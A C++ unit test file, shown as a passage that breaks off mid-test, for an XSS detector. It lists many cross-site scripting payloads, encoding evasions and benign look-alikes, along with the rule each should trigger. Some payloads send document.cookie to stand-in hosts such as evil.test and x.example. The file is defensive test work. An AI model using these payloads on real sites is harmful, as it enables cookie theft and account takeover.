#include <string>
#include <string_view>

#include "gtest/gtest.h"
#include "runtime/detect/detector.h"
#include "tests/unit/detect/detect_test_support.h"

namespace fnguard::detect {
namespace {

using testing::Detects;
using testing::RuleOf;

struct AttackCase {
  std::string_view value;
  std::string_view rule;
};

TEST(XssTest, DetectsAttacks) {
  const AttackCase kCases[] = {
      {"<script>fetch('//evil.test/'+document.cookie)</script>", "xss.script_tag"},
      {"<ScRiPt src=//evil.test/x.js>", "xss.script_tag"},
      {"\"><script>prompt(7)</script>", "xss.script_tag"},
      {"<img src=nope onerror=print()>", "xss.event_handler"},
      {"<svg/onload=confirm`3`>", "xss.event_handler"},
      {"<body onpageshow=go()>", "xss.event_handler"},
      {"<details open ontoggle=run(2)>", "xss.event_handler"},
      {"<input autofocus onfocus=steal()>", "xss.event_handler"},
      {"<custom-el onclick=x()>hi</custom-el>", "xss.event_handler"},
      {"<a href=\"javascript:go(1)\">x</a>", "xss.js_url"},
      {"<iframe src=\"JaVaScRiPt:run(9)\"></iframe>", "xss.js_url"},
      {"<form action=javascript:send()><button>go", "xss.js_url"},
      {"<object data=\"data:text/html;base64,PHNjcmlwdD4=\">", "xss.js_url"},
      {"<iframe width=1 height=1>", "xss.dangerous_tag"},
      {"<embed src=//evil.test/x.swf>", "xss.dangerous_tag"},
      {"<meta http-equiv=\"refresh\" content=\"0;url=javascript:go()\">", "xss.js_url"},
      {"<base href=//evil.test/>", "xss.dangerous_tag"},
      {"<style>@import 'http://evil.test/x.css';</style>", "xss.css_expression"},
      {"<div style=\"width: expression(run(4))\">", "xss.css_expression"},
      {"\" onmouseover=\"steal(1)", "xss.attribute_breakout"},
      {"' autofocus onfocus=run(5) x='", "xss.attribute_breakout"},
      {"javascript:go(2)", "xss.js_url"},
      {"java\tscript:go(2)", "xss.js_url"},
      {"';alert(8)//", "xss.js_breakout"},
      {"\"-prompt(4)-\"", "xss.js_breakout"},
      {"</script><script>go()</script>", "xss.script_tag"},
  };
  for (const AttackCase& c : kCases) {
    Match m;
    EXPECT_TRUE(Detects(XssDetector(), c.value, &m)) << c.value;
    EXPECT_GE(m.score, 60) << c.value;
    EXPECT_EQ(m.rule_id, c.rule) << c.value;
    EXPECT_FALSE(m.reason.empty()) << c.value;
  }
}

TEST(XssTest, RuleIdsNameTheTechnique) {
  Match m;
  ASSERT_TRUE(Detects(XssDetector(), "<img src=nope onerror=print()>", &m));
  EXPECT_EQ(m.rule_id, "xss.event_handler");
  ASSERT_TRUE(Detects(XssDetector(), "<a href=\"javascript:go(1)\">x</a>", &m));
  EXPECT_EQ(m.rule_id, "xss.js_url");
  ASSERT_TRUE(Detects(XssDetector(), "<script>go()</script>", &m));
  EXPECT_EQ(m.rule_id, "xss.script_tag");
}

TEST(XssTest, DetectsAfterNormalization) {
  const std::string_view kCases[] = {
      "%3Cscript%3Ego()%3C/script%3E",
      "%253Cimg%2520src%253Dx%2520onerror%253Drun()%253E",
      "&lt;svg onload=run()&gt;",
      "<a href=\"java&#x09;script&colon;go()\">",
      "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;go()\">",
      "\\u003cscript\\u003ego()\\u003c/script\\u003e",
      std::string_view("<scr\0ipt>go()</script>", 23),
      "\xEF\xBC\x9Cscript\xEF\xBC\x9Ego()",
  };
  for (std::string_view v : kCases) {
    Match m;
    EXPECT_TRUE(Detects(XssDetector(), v, &m)) << v;
  }
}

TEST(XssTest, IgnoresBenignText) {
  const std::string_view kCases[] = {
      "a < b and c > d",
      "x<5",
      "<3 love",
      "I <3 you",
      "if (a<b) { return c; }",
      "**bold** and _italic_ and [link](https://example.com)",
      "Tom & Jerry",
      "John Smith <john@example.com>",
      "<b>bold</b> and <i>italic</i>",
      "<p>Hello <a href=\"https://example.com/page\">there</a></p>",
      "text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8",
      "I love javascript and typescript",
      "javascript: the good parts",
      "on=1",
      "https://example.com/page?onload=1&x=2",
      "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
      "{\"html\":\"<br>\",\"online\":true}",
      "data:image/png;base64,iVBORw0KGgo=",
      "Please confirm your email",
      "It's \"great\" - really",
      "const msg = `Hello ${name}!`",
      "He said !!! [+] (great) [!] +[1]",
      "behavior: polite and calm",
      "Score: [+] 3 (![]) ok",
      "I wrote eval() notes",
      "atob() decodes base64",
  };
  for (std::string_view v : kCases) {
    Match m;
    EXPECT_FALSE(Detects(XssDetector(), v, &m)) << v << " -> " << m.rule_id;
  }
}

TEST(XssTest, PathologicalInputsFinish) {
  const std::string_view kUnits[] = {"<", "<a ", "<a x=\"", "'", "{{", "javascript", "on",
                                     "<a onx", "&#", "\"-", "document/*", "self[\"",
                                     "![] ", "j&tab;", "a&newline;v", "top['\\x", "<!--",
                                     "<!-- x --> <!--"};
  for (std::string_view unit : kUnits) {
    std::string big;
    while (big.size() < (1u << 20)) big += unit;
    Match m;
    Detects(XssDetector(), big, &m);
  }
  std::string tail(1 << 20, 'a');
  tail += "<svg onload=go()>";
  Match m;
  EXPECT_TRUE(Detects(XssDetector(), tail, &m));
}

// Each scan without a tag still fires on its own shape.
// Whether a comment is closed is told for each "<!--" of a value.
TEST(XssTest, UnterminatedCommentsAmongClosedOnes) {
  EXPECT_EQ(RuleOf(XssDetector(), "<!-- a --> text <!-- b"), "xss.dangerous_tag");
  EXPECT_EQ(RuleOf(XssDetector(), "<!-- a --> text <!-- b -->"), "");
  EXPECT_EQ(RuleOf(XssDetector(), "<!-- a <!-- b -->"), "");
  EXPECT_EQ(RuleOf(XssDetector(), "<!-- a -- b --!> <!--->"), "xss.dangerous_tag");
}

TEST(XssTest, TaglessScansStillFire) {
  Match m;
  EXPECT_TRUE(Detects(XssDetector(), "\" autofocus onfocus=run(1) x=\"", &m));
  EXPECT_EQ(m.rule_id, "xss.attribute_breakout");
  EXPECT_TRUE(Detects(XssDetector(), "JaVaScRiPt:go(1)", &m));
  EXPECT_EQ(m.rule_id, "xss.js_url");
  EXPECT_TRUE(Detects(XssDetector(), "x';confirm(2);//", &m));
  EXPECT_EQ(m.rule_id, "xss.js_breakout");
  EXPECT_TRUE(Detects(XssDetector(), "{{constructor.constructor('go()')()}}", &m));
  EXPECT_TRUE(Detects(XssDetector(), "x</script>", &m));
  EXPECT_TRUE(Detects(XssDetector(), "prompt`1`", &m));
  EXPECT_TRUE(Detects(XssDetector(), "top['al'+'ert'](1)", &m));
}

// One or more examples per markup grammar beyond <script> and on*= handlers.
TEST(XssTest, DetectsMarkupFamilies) {
  const AttackCase kCases[] = {
      // Netscape layers and IE XML data islands with data binding.
      {"<ilayer src=\"//evil.test/l.html\"></ilayer>", "xss.dangerous_tag"},
      {"<xml id=d src=\"//evil.test/d.xml\"></xml>", "xss.dangerous_tag"},
      {"<span datasrc=#d datafld=f dataformatas=html></span>", "xss.dangerous_tag"},
      // External style sheets and UTF-7 switches.
      {"<link rel=\"stylesheet\" href=\"//evil.test/s.css\">", "xss.dangerous_tag"},
      {"<meta http-equiv=\"link\" content=\"<//evil.test/s.css>; rel=stylesheet\">",
       "xss.dangerous_tag"},
      {"<meta charset=\"utf-7\">", "xss.dangerous_tag"},
      // Style attributes and style sheets that load, escape or break out.
      {"<p style=\"background:url(//evil.test/i.svg)\">", "xss.css_expression"},
      {"<p style=\"\\62 ackground:red\">", "xss.css_expression"},
      {"<p style=\"width:1px}p{color:red\">", "xss.css_expression"},
      {"<p style=\"behaviour: url(h.htc)\">", "xss.css_expression"},
      {"<style>p{background:url(//evil.test/x)}</style>", "xss.css_expression"},
      // SVG/MathML links, animations and namespaces.
      {"<math><a xlink:href=\"//evil.test/\">go", "xss.js_url"},
      {"<svg><set attributeName=\"href\" to=\"//evil.test/\"/>", "xss.js_url"},
      {"<doc xmlns:h=\"http://www.w3.org/1999/xhtml\">", "xss.dangerous_tag"},
      {"<svg:rect width=9>", "xss.dangerous_tag"},
      {"<e ev:event=\"load\" ev:handler=\"h.evt#x\"/>", "xss.event_handler"},
      // Processing instructions, conditional comments, declarations.
      {"<?xml-stylesheet type=\"text/xsl\" href=\"#s\"?>", "xss.dangerous_tag"},
      {"<?import namespace=\"t\" implementation=\"#d\"?>", "xss.dangerous_tag"},
      {"<!--[if IE]><b>x</b><![endif]-->", "xss.dangerous_tag"},
      {"<!DOCTYPE foo SYSTEM \"x.dtd\"><p>", "xss.dangerous_tag"},
      {"<!DOCTYPE html lang=x><p>", "xss.dangerous_tag"},
      {"<? system('id'); ?>", "xss.dangerous_tag"},
      {"<b>hi</b><!-- rest of page", "xss.dangerous_tag"},
      // Foreign content and page takeover, open or left dangling.
      {"x<svg", "xss.dangerous_tag"},
      {"<form action=//evil.test/><input name=pw>", "xss.dangerous_tag"},
      {"</textarea><b>x</b>", "xss.js_breakout"},
      {"--><p>{}</p>", "xss.js_breakout"},
      // URLs: unusual schemes, spaced schemes, encoded hosts.
      {"<img src=\"mocha:go(1)\">", "xss.js_url"},
      {"mhtml:http://evil.test/a.mht!x.html", "xss.js_url"},
      {"<img src=java script:go(1)>", "xss.js_url"},
      {"<a href=\"http://3232235777/\">x</a>", "xss.js_url"},
      {"<a href=\"http://0xc0.0xa8.0x1.0x1/\">x</a>", "xss.js_url"},
      {"<a href=\"http://0300.0250.01.01/\">x</a>", "xss.js_url"},
      // UTF-7 whose '+' signs were decoded to spaces; computed global calls.
      {"+ADw-b+AD4-hi", "xss.script_tag"},
      {"x ADw-b AD4-hi", "xss.script_tag"},
      {"self[12345..toString(36)](1)", "xss.js_breakout"},
  };
  for (const AttackCase& c : kCases) {
    Match m;
    EXPECT_TRUE(Detects(XssDetector(), c.value, &m)) << c.value;
    EXPECT_EQ(m.rule_id, c.rule) << c.value;
  }
}

// A lone '<', in any spelling, is text: nothing can execute without a tag
// name, a handler or a script URL after it.
TEST(XssTest, IgnoresALoneAngleBracketAsTypedOrCanonicallyEscaped) {
  const std::string_view kCases[] = {"<",     "&lt;",  "&#x3c;", "&#60;", "%3C",
                                     "&lt;3", "a &lt; b", " < ", "\xef\xbc\x9c", "&lt;&lt;"};
  for (std::string_view v : kCases) {
    Match m;
    EXPECT_FALSE(Detects(XssDetector(), v, &m)) << v << " -> " << m.rule_id;
  }
}

// The whole value one '<' in a spelling nobody types and no escaper emits:
// probing which encodings a page decodes.
TEST(XssTest, DetectsEncodedAngleBracketProbes) {
  const std::string_view kCases[] = {"&#00060;", "&#x0003C", "&#X3c;", "&LT", "&lt",
                                     "&#60",     "\\x3c",   "\\u003C", "%253C", " &#x00003c; "};
  for (std::string_view v : kCases) {
    Match m;
    EXPECT_TRUE(Detects(XssDetector(), v, &m)) << v;
    EXPECT_EQ(m.rule_id, "xss.encoded_bracket_probe") << v;
  }
}

// Benign counterparts of the families above.
TEST(XssTest, IgnoresBenignMarkupNeighbours) {
  const std::string_view kCases[] = {
      "<a href=\"http://192.168.1.10/\">router</a>",
      "<a href=\"http://example.com/0x1f\">x</a>",
      "<span style=\"color:red;font-weight:bold\">hi</span>",
      "<p class=\"note\">see <i>this</i></p>",
      "<img src=\"/img/logo.png\" alt=\"logo\">",
      "<b>done</b><!-- note -->",
      // An XML API's message whose root element is named xml.
      "<xml><ToUserName><![CDATA[gh_1]]></ToUserName><MsgType>text</MsgType></xml>",
      "<link>",
      "read the xml file",
      "version <?> of the spec",
      "the svg format",
      "My math homework",
      "<SPAN CLASS=\"BADGE\">NEW</SPAN>",
      "A+B = C+D",
      "top[0]",
      "utf-7 is a legacy encoding",
  };
  for (std::string_view v : kCases) {
    Match m;
    EXPECT_FALSE(Detects(XssDetector(), v, &m)) << v << " -> " << m.rule_id;
  }
}

// Whole documents sent as data (a page, a feed, an XML message): the page
// elements without attributes change nothing, and a raw-text element the
// value opens itself is closed, not broken out of.
TEST(XssTest, IgnoresWholeDocumentsWithoutActiveContent) {
  const std::string_view kCases[] = {
      "<!DOCTYPE html>\n<html><head><title>Landing</title></head><body><p>Hi</p></body></html>",
      "<!doctype HTML><p>x</p>",
      "<rss version=\"2.0\"><channel><title>Blog</title><link>https://b.example/</link>"
      "</channel></rss>",
      "<note><to>Tove</to><body>Don't forget me</body></note>",
      "<HTML><BODY>",
      "<html lang=\"en\" dir=ltr><body class='home page' id=top>",
      "</body></html>",
      "<title>Notes</title><p>x</p>",
  };
  for (std::string_view v : kCases) {
    Match m;
    EXPECT_FALSE(Detects(XssDetector(), v, &m)) << v << " -> " << m.rule_id;
  }
  // Attributes, a breakout the value did not open, and a second element.
  const AttackCase kAttacks[] = {
      {"<body onload=go()>", "xss.event_handler"},
      {"<html manifest=//evil.test/m>", "xss.dangerous_tag"},
      {"<body lang=en background=//evil.test/x>", "xss.dangerous_tag"},
      {"<body id=\"a\"onload=go()>", "xss.event_handler"},
      {"</title><b>x</b>", "xss.js_breakout"},
      {"<title>a</title></textarea><b>x</b>", "xss.js_breakout"},
      {"<title>x</title><svg>", "xss.dangerous_tag"},
  };
  for (const AttackCase& c : kAttacks) {
    Match m;
    EXPECT_TRUE(Detects(XssDetector(), c.value, &m)) << c.value;
    EXPECT_EQ(m.rule_id, c.rule) << c.value;
  }
}

// The script-call rules are reached from the punctuation next to their word
// (or, past 128 such places, by reading every word): each kind of place, in
// prose, and after many decoys.
TEST(XssTest, ScriptCallsFoundFromEachKindOfPunctuation) {
  const std::string prose = "Pairs well with the matching coasters, sold separately. ";
  const AttackCase kCases[] = {
      {"f(alert, 1)", "xss.js_breakout"},                 // '(' before, SinkPassedAt
      {"x = alert, x(1)", "xss.js_breakout"},             // '=' before, an alias
      {"window.open('//evil.test')", "xss.js_breakout"},  // '.' after
      {"location = '/logout';", "xss.js_breakout"},       // '=' after, spaces between
      {"top.location='//evil.test'", "xss.js_breakout"},  // '=' right after
      {"alert`1`", "xss.js_breakout"},                    // '`' after
      {"(alert)(1)", "xss.js_breakout"},                  // ')' after
      {"((confirm))`1`", "xss.js_breakout"},              // "))" after "(("
      {"alert?.(1)", "xss.js_breakout"},                  // '?' after
      {"self['al'+'ert'](1)", "xss.js_breakout"},         // '[' after
  };
  for (const AttackCase& c : kCases) {
    EXPECT_EQ(RuleOf(XssDetector(), c.value), c.rule) << c.value;
    EXPECT_EQ(RuleOf(XssDetector(), prose + std::string(c.value)), c.rule) << c.value;
    std::string decoys;
    for (int i = 0; i < 100; ++i) decoys += "a.b(c) d=e ";
    EXPECT_EQ(RuleOf(XssDetector(), decoys + std::string(c.value)), c.rule) << c.value;
  }
  // The same words without the punctuation are prose.
  EXPECT_EQ(RuleOf(XssDetector(),
                   "an alert prompt: confirm the window location, top and self (please)."),
            "");
  EXPECT_EQ(RuleOf(XssDetector(), "see ((alert)) (1) and (prompt))`x`"), "");
}

// new Function(...) is an evaluator whatever its arguments are; JavaScript
// names are case-sensitive, so prose about "a new function (...)" is not it.
TEST(XssTest, FunctionConstructorCalledWithNew) {
  for (std::string_view v : {"new Function()", "x=new Function(a,b)", "new\tFunction(code)()"}) {
    Match m;
    ASSERT_TRUE(Detects(XssDetector(), v, &m)) << v;
    EXPECT_EQ(m.rule_id, "xss.js_breakout") << v;
  }
  for (std::string_view v : {"We added a new function (see docs)", "The New Function (beta)",
                             "renew Function()", "new Functions()", "a new Function (beta)"}) {
    Match m;
    EXPECT_FALSE(Detects(XssDetector(), v, &m)) << v << " " << m.rule_id;
  }
}

// A quote and then a known event handler with '=': the quote closes one
// attribute and the handler opens another, whatever the handler's value is.
// Words that only start with "on" are not handlers.
TEST(XssTest, KnownHandlerRightAfterAClosingQuote) {
  for (std::string_view v : {"\"onzoom=", "\" onmouseover=x", "' onerror=retry",
                             "x\" onclick=go y=\"", "'/onfocus=1"}) {
    Match m;
    ASSERT_TRUE(Detects(XssDetector(), v, &m)) << v;
    EXPECT_EQ(m.rule_id, "xss.attribute_breakout") << v;
  }
  for (std::string_view v : {"\" onboarding=true", "\"online=yes", "\" onlineshop=1",
                             "He said \"on time\" = late", "' autofocus onfocus=x",
                             "onload=init"}) {
    Match m;
    EXPECT_FALSE(Detects(XssDetector(), v, &m)) << v << " " << m.rule_id;
  }
}

}  // namespace
}  // namespace fnguard::detect

namespace fnguard::detect {
namespace {

// Script with no tag, quote or call by name: written in []()!+ alone, or
// handing a sink to a tagged template; and a style declaration as the value.
TEST(XssTest, ScriptWithoutNamesOrTags) {
  const std::pair<std::string_view, std::string_view> kCases[] = {
      {"(![]+[])[+!+[]]", "xss.js_obfuscation"},
      {"[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]", "xss.js_obfuscation"},
      {"[].sort.call`${alert}1`", "xss.js_breakout"},
      {"[ ] . sort . call ` ${ alert } 1 `", "xss.js_breakout"},
      {"Reflect.apply.call`${navigation.navigate}${navigation}${[u]}`", "xss.js_breakout"},
      {"-moz-binding:url(//203.0.113.9/x.xml#x)", "xss.css_expression"},
      {"behavior: url(x.htc)", "xss.css_expression"},
  };
  for (const auto& [v, rule] : kCases) {
    Match m;
    ASSERT_TRUE(Detects(XssDetector(), v, &m)) << v;
    EXPECT_EQ(m.rule_id, rule) << v;
  }
  Match m;
  EXPECT_FALSE(Detects(XssDetector(), "+!![]", &m)) << m.rule_id;  // too short to be code
  EXPECT_FALSE(Detects(XssDetector(), "tag`${user}`", &m)) << m.rule_id;
}

// JSFuck sent in a form body arrives with its '+' signs turned to spaces.
TEST(XssTest, ScriptWithoutNamesWhosePlusSignsBecameSpaces) {
  for (std::string_view v : {"(![] [])[ ! []]", "[][(![] [])[ []] (![] [])[! [] ! []]]"}) {
    Match m;
    ASSERT_TRUE(Detects(XssDetector(), v, &m)) << v;
    EXPECT_EQ(m.rule_id, "xss.js_obfuscation") << v;
  }
  // Markdown's empty images and checkbox lists index nothing; with a '+' in
  // the value a space is only a space.
  for (std::string_view v : {"![]() ![]() ![]() ![]()", "![] ![] ![] ![] ![]",
                             "- [ ] (todo) ![] [ ] ( )", "(![] [])[ ! []] + 1"}) {
    Match m;
    EXPECT_FALSE(Detects(XssDetector(), v, &m)) << v << " -> " << m.rule_id;
  }
}

// A browser global's property reached through a comment or a quoted name in
// brackets, with or without any other script syntax around it.
TEST(XssTest, PropertyReachedThroughCommentsOrQuotedNames) {
  for (std::string_view v :
       {"document/*foo*/.cookie", "document /*a*/ .     cookie", "document./**/domain",
        "(document)[\"cookie\"]", "(document/*x*/)['cookie']", "document[ 'cookie' ]",
        "globalThis[\"eval\"]", "self  /*x*/  [  /*y*/  \"alert\"](1)",
        "top /* x */ . location = 1"}) {
    Match m;
    ASSERT_TRUE(Detects(XssDetector(), v, &m)) << v;
    EXPECT_EQ(m.rule_id, "xss.js_obfuscation") << v;
  }
  for (std::string_view v :
       {"document.cookie", "document['title']", "the document /* draft */ is done",
        "self /* note */ .cookiejar", "mydocument/*x*/.cookie", "document/*x*/.cookies",
        "window /* unclosed . cookie", "topics['cookie']"}) {
    Match m;
    EXPECT_FALSE(Detects(XssDetector(), v, &m)) << v << " -> " << m.rule_id;
  }
}

// Internet Explorer's VML frame, whatever prefix its namespace was given.
TEST(XssTest, VmlFrame) {
  for (std::string_view v :
       {"<v:vmlframe src=\"foo.com/sup.fml\"/>", "<x:VMLFRAME src=a>", "<:vmlframe src=//x/y>"}) {
    Match m;
    ASSERT_TRUE(Detects(XssDetector(), v, &m)) << v;
    EXPECT_EQ(m.rule_id, "xss.dangerous_tag") << v;
  }
  Match m;
  EXPECT_FALSE(Detects(XssDetector(), "<vmlframe> is an old IE element", &m)) << m.rule_id;
  EXPECT_FALSE(Detects(XssDetector(), "<:frame src=a>", &m)) << m.rule_id;
}

// Browsers strip tabs and newlines from URLs, so a scheme written with them
// (as bytes or as character references, in any case) still runs script;
// nothing but an evasion spells it so, even with nothing after the colon.
TEST(XssTest, ScriptSchemeBrokenUpByStrippedCharacters) {
  for (std::string_view v : {"java\tscript:", "ja&Tab;vascript:", "VB&NewLine;SCRIPT:",
                             "v&newline;bscr&tab;ipt: ", "x=java\nscript:"}) {
    Match m;
    ASSERT_TRUE(Detects(XssDetector(), v, &m)) << v;
    EXPECT_EQ(m.rule_id, "xss.js_url") << v;
  }
  for (std::string_view v : {"javascript:", "vbscript: a legacy language", "Tom &amp; Jerry: java",
                             "java\tscript", "see javascript&tab;docs"}) {
    Match m;
    EXPECT_FALSE(Detects(XssDetector(), v, &m)) << v << " " << m.rule_id;
  }
}

// A browser global indexed with a name spelled in escapes hides what it
// reaches; decoding the value would remove the evidence, so the raw value
// is read too.
TEST(XssTest, PropertyNamedThroughEscapes) {
  for (std::string_view v : {"self[\"\\x24\"]", "parent['\\u0066etch']", "top[\"\\143ookie\"]"}) {
    Match m;
    ASSERT_TRUE(Detects(XssDetector(), v, &m)) << v;
    EXPECT_EQ(m.rule_id, "xss.js_obfuscation") << v;
  }
  for (std::string_view v : {"topics[\"\\x24\"]", "self[\"\\n\"]", "self[\"$\"]",
                             "document['title']"}) {
    Match m;
    EXPECT_FALSE(Detects(XssDetector(), v, &m)) << v << " " << m.rule_id;
  }
}

// In a long value the scans gather their candidate positions stretch by
// stretch; whatever the stretches, evidence anywhere in the value is found,
// at its own offset, among many bytes that make candidates.
TEST(XssTest, LongValuesAreScannedWhereverTheEvidenceIs) {
  std::string filler;
  while (filler.size() < 20000) filler += "a(b) x.y k = v q? w-x tt.z arr[0] t:t ";
  {
    Match m;
    EXPECT_FALSE(Detects(XssDetector(), filler, &m)) << m.rule_id;
  }
  for (std::string_view piece : {"alert(1)", "x=alert;x(1)", "javascript:alert(1)", "</script>",
                                 "document.cookie", "setTimeout`1`"}) {
    for (size_t at : {0u, 250u, 4090u, 4096u, 4101u, 8190u, 12000u, 19990u}) {
      std::string v = filler.substr(0, at) + " " + std::string(piece) + " " + filler.substr(at);
      Match m;
      ASSERT_TRUE(Detects(XssDetector(), v, &m)) << piece << " at " << at;
      EXPECT_GE(m.offset, at) << piece << " at " << at << ": " << m.rule_id;
      EXPECT_LE(m.offset, at + 1 + piece.size()) << piece << " at " << at << ": " << m.rule_id;
    }
  }
}

TEST(XssTest, ScriptUrlsInARowLookForCodeWithin256BytesOfEach) {
  // `reps` schemes, then `gap` letters, then '(' at p: the first scheme that
  // ends less than 256 bytes before p reports, from where it starts.
  constexpr std::string_view kScheme = "javascript:";
  for (size_t reps : {1u, 2u, 23u, 24u, 25u, 60u}) {
    for (size_t gap : {0u, 1u, 100u, 254u, 255u, 256u, 300u}) {
      std::string v;
      for (size_t r = 0; r < reps; ++r) v += kScheme;
      v.append(gap, 'x');
      const size_t p = v.size();
      v += "(1)";
      Match m;
      const bool found = Detects(XssDetector(), v, &m);
      ASSERT_EQ(found, gap < 256) << reps << " schemes, gap " << gap;
      if (!found) continue;
      size_t first = 0;
      while ((first + 1) * kScheme.size() + 256 <= p) ++first;
      EXPECT_EQ(m.rule_id, "xss.js_url");
      EXPECT_EQ(m.offset, first * kScheme.size()) << reps << " schemes, gap " << gap;
    }
  }
}

TEST(XssTest, ClosersInARowEachLookTwelveBytesAround) {
  // `reps` comment closers, `gap` letters, then two different quotes at p:
  // the first closer "-->" at k (its '>') whose surroundings [k - 14,
  // k + 13) hold both quotes reports, from its first '-'.
  for (size_t reps : {1u, 2u, 5u, 40u}) {
    for (size_t gap = 0; gap <= 20; ++gap) {
      std::string v;
      for (size_t r = 0; r < reps; ++r) v += "-->";
      v.append(gap, 'x');
      const size_t p = v.size();
      v += "'\"";
      Match m;
      const bool found = Detects(XssDetector(), v, &m);
      size_t first = reps;
      for (size_t r = 0; r < reps && first == reps; ++r) {
        const size_t k = 3 * r + 2;
        if (p + 1 < k + 13 && p + 14 >= k) first = r;
      }
      ASSERT_EQ(found, first < reps) << reps << " closers, gap " << gap;
      if (!found) continue;
      EXPECT_EQ(m.rule_id, "xss.js_breakout");
      EXPECT_EQ(m.offset, 3 * first) << reps << " closers, gap " << gap;
    }
  }
}

// Framework directives whose value runs as an expression, and SVG images
// in data: URLs read for what they hold.
TEST(XssTest, FrameworkDirectivesAndSvgDataUrls) {
  for (const std::string a :
       {"<input autofocus ng-focus=\"$event.view.alert(1)\">",
        "<p data-ng-click=\"constructor.constructor('alert(1)')()\">x</p>",
        "<a v-on:click=\"alert(1)\">x</a>", "<div x-init=\"alert(1)\"></div>",
        // <svg onload=alert(1)>
        "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>x()</script></svg>\">"}) {
    EXPECT_NE(testing::RuleOf(XssDetector(), a), "") << a;
  }
  for (const std::string b :
       {// <svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"><circle cx="4" cy="4" r="3"/></svg>
        "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHZpZXdCb3g9"
        "IjAgMCA4IDgiPjxjaXJjbGUgY3g9IjQiIGN5PSI0IiByPSIzIi8+PC9zdmc+",
        "the ng-click directive", "data:image/png;base64,iVBORw0KGgo="}) {
    EXPECT_EQ(testing::RuleOf(XssDetector(), b), "") << b;
  }
}

// A DOCTYPE named by a formal public identifier (XHTML's, an Apple
// plist's) declares no markup: where its DTD comes from is the xxe
// detector's to judge. A name between backticks is a code span, not a
// tagged template.
TEST(XssTest, PublicDoctypesAndCodeSpans) {
  for (const std::string b :
       {"<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" "
        "\"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
        "<!doctype HTML public '-//W3C//DTD HTML 4.01//EN'>",
        "<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" "
        "\"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><plist version=\"1.0\"></plist>",
        "Never use `eval` on input.", "`alert` and `prompt` block the page"}) {
    EXPECT_EQ(testing::RuleOf(XssDetector(), b), "") << b;
  }
  EXPECT_EQ(testing::RuleOf(XxeDetector(), "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" "
                                           "\"http://x.example/a.dtd\">"),
            "xxe.external_dtd");
  for (const std::string a :
       {"<!DOCTYPE html PUBLIC \"-//W3C//DTD HTML 4.01//EN\" onload=x>",
        "<!DOCTYPE html PUBLIC \"x\">", "eval`alert\\x281\\x29`", "x=alert`1`"}) {
    EXPECT_NE(testing::RuleOf(XssDetector(), a), "") << a;
  }
}

// Dangling markup: a URL attribute's quote that never closes.
TEST(XssTest, DanglingMarkup) {
  for (const std::string a : {"<img src='https://evil.example/log?", "<a href=\"//evil.example/?x="}) {
    EXPECT_EQ(testing::RuleOf(XssDetector(), a), "xss.dangling_markup") << a;
  }
  for (const std::string b : {"<img src='https://example.com/a.png'>",
                              "I said <a href=\"https://x.example\">here</a> \"quoted",
                              "a < b and c = 'x"}) {
    EXPECT_EQ(testing::RuleOf(XssDetector(), b), "") << b;
  }
}

TEST(XssTest, TagsAndSchemesWrittenAbout) {
  EXPECT_EQ(testing::RuleOf(XssDetector(), "Don't paste <script> tags into the CMS."), "");
  EXPECT_EQ(testing::RuleOf(XssDetector(), "Escape <script> tags in user bios"), "");
  EXPECT_EQ(testing::RuleOf(XssDetector(), "<code>&lt;script&gt;</code> tags are removed"), "");
  EXPECT_EQ(testing::RuleOf(XssDetector(), "JavaScript: The Good Parts (book)"), "");
  EXPECT_EQ(testing::RuleOf(XssDetector(), "Unexpected token '<', \"<!DOCTYPE \"... is not JSON"),
            "");
  EXPECT_EQ(testing::RuleOf(XssDetector(), "<script> alert(1)"), "xss.script_tag");
  EXPECT_EQ(testing::RuleOf(XssDetector(), "<script>new Image().src=1</script>"),
            "xss.script_tag");
  EXPECT_EQ(testing::RuleOf(XssDetector(), "<script>x in alert(1)</script>"), "xss.script_tag");
  EXPECT_EQ(testing::RuleOf(XssDetector(), "<script></script><script>a()</script>"),
            "xss.script_tag");
  EXPECT_EQ(testing::RuleOf(XssDetector(), "javascript:void fetch(1)"), "xss.js_url");
}

TEST(XssTest, ScriptTagThenANameAndAQuote) {
  EXPECT_EQ(testing::RuleOf(XssDetector(), "{\"q\":\"<script> tag\",\"n\":2}"), "");
  EXPECT_EQ(testing::RuleOf(XssDetector(), "<script>alert`1`</script>"), "xss.script_tag");
  EXPECT_EQ(testing::RuleOf(XssDetector(), "<script>x='1'</script>"), "xss.script_tag");
}

TEST(XssTest, InertScriptIsClean) {
  // A link that goes nowhere and a handler that only cancels the default.
  for (const char* v : {"Why does my link to javascript:void(0) not close the modal?",
                        "<a href=\"javascript:void(0)\">Menu</a>",
                        "<a href=\"javascript:void 0;\">x</a>",
                        "Is `<a href=\"#\" onclick=\"return false;\">Menu</a>` still acceptable?",
                        "<button onclick=\"event.preventDefault(); return false\">",
                        "\" onmouseover=\"return false\" x=\""}) {
    EXPECT_EQ(RuleOf(XssDetector(), v), "") << v;
  }
  // Code after it still runs.
  EXPECT_EQ(RuleOf(XssDetector(), "javascript:void(0);alert(1)"), "xss.js_url");
  EXPECT_EQ(RuleOf(XssDetector(), "javascript:void(0) ;fetch('//x.example/'+document.cookie)"),
            "xss.js_url");
  EXPECT_EQ(RuleOf(XssDetector(), "javascript:void(0)\nfetch('//x.example/'+document.cookie)"),
            "xss.js_url");
  EXPECT_EQ(RuleOf(XssDetector(), "<a href=\"javascript:void(0);alert(1)\">x</a>"), "xss.js_url");
  EXPECT_EQ(RuleOf(XssDetector(), "javascript:void 0;alert(1)"), "xss.js_url");
  EXPECT_EQ(RuleOf(XssDetector(), "\"><a onclick=\"return false;alert(1)\">"),
            "xss.event_handler");
  EXPECT_EQ(RuleOf(XssDetector(), "<img src=x onerror=\"return leak()\">"), "xss.event_handler");
